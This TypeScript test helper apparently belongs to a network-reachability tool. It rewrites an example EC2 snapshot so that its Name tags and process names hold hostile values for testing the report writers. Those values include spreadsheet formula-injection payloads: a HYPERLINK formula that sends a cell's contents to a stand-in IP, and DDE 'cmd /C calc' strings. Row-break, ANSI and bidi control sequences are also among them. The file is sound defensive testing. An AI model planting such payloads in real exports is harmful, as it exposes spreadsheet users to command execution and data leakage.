// The bundled example copied to a temporary folder, for the writers' tests that need it changed:
// hostile Name tags and process names, or no collection time.
import { cpSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';

export const EXAMPLE = 'examples/seed-article';
const INSTANCES_FILE = join('123456789012', 'us-east-1', 'ec2-describe-instances.json');
const AGENT_FILE = join('agent', 'i-048c5aa472546e50c.json');

/**
 * What a Name tag may hold, one per instance of the example in file order (web, agent, noagent;
 * "private" has no findings): spreadsheet formulas, a row break with quotes, ANSI and bidi controls.
 */
export const HOSTILE_NAMES: readonly string[] = [
  '=HYPERLINK("http://203.0.113.9/x?"&A1,"click")',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\tweb,"quoted"\r\nsecond line \u001b[31mred\u001b[0m \u202eevil\u202c',
  'private',
];

/** The agent's process names, which reach the CSV's listener column and the descriptions. */
export const HOSTILE_PROCESS_NAME = '+cmd|\' /C calc\'!A0';

export function exampleCopy(t: { after: (fn: () => void) => void }): string {
  const dir = mkdtempSync(join(tmpdir(), 'netreach-formats-'));
  t.after(() => rmSync(dir, { recursive: true, force: true }));
  cpSync(EXAMPLE, dir, { recursive: true });
  return dir;
}

/** The Name tags become `names` (one per tag of the example), the agent's process names HOSTILE_PROCESS_NAME. */
export function makeHostile(dir: string, names: readonly string[] = HOSTILE_NAMES): void {
  let n = 0;
  const instances = readFileSync(join(dir, INSTANCES_FILE), 'utf8');
  const hostile = instances.replace(/("Key": "Name",\s*"Value": )"[^"]*"/g, (_, head: string) => `${head}${JSON.stringify(names[n++])}`);
  if (n !== names.length) throw new Error(`the example has ${n} Name tags, not ${names.length}`);
  writeFileSync(join(dir, INSTANCES_FILE), hostile);
  const agent = readFileSync(join(dir, AGENT_FILE), 'utf8');
  writeFileSync(join(dir, AGENT_FILE), agent.replace(/"name": "[^"]*"/g, JSON.stringify({ name: HOSTILE_PROCESS_NAME }).slice(1, -1)));
}

/** The snapshot without manifest.json, so without a collection time. */
export function dropCollectionTime(dir: string): void {
  rmSync(join(dir, 'manifest.json'));
}
